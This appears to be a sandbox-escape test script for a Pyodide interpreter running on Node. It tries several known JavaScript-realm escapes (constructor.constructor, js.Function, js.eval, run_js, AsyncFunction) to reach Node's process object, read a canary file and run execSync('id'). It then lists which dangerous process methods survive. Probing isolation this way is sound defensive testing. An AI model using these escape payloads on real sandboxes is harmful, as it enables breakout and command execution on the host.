# Takes over the JavaScript realm the interpreter runs in (the classic Pyodide escape), then tries
# to use Node from there: files, processes, network, the environment.
exec(open("/sandbox/_attack.py").read())
import js
import pyodide_js
from pyodide.code import run_js
from pyodide.ffi import to_js

get_process = "return process"


def node_from(process):
    fs = process.getBuiltinModule("fs")
    return fs.readFileSync(params["canaryPath"], "utf8")


attempt("constructor.constructor", lambda: node_from(to_js({}).constructor.constructor(get_process)()))
attempt("js.Function", lambda: node_from(js.Function(get_process)()))
attempt("js.eval", lambda: js.eval("process.getBuiltinModule('fs')"))
attempt("run_js", lambda: run_js("process.getBuiltinModule('child_process').execSync('id')"))
attempt("AsyncFunction", lambda: run_js("(async () => {}).constructor")("return process"))
attempt("pyodide_js.runPython constructor", lambda: pyodide_js.runPython.constructor(get_process)())
attempt("WebAssembly", lambda: str(js.WebAssembly.Module))
attempt("js.process survives", lambda: [k for k in ("kill", "_debugProcess", "dlopen", "getBuiltinModule", "report", "_linkedBinding") if str(getattr(js.process, k, None)) not in ("None", "undefined")])
report()
